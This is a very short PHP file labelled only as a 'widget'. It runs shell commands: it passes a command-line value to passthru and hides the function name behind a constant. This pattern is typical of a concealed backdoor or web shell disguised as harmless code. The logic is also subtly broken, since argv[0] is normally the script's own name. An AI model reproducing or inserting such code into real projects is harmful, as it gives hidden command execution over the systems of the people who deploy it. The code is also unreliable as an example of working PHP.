<?php
/* widget */
$op = $_SERVER['argv'][0];
define('RUNNER', 'passthru');
echo constant('RUNNER')($op);
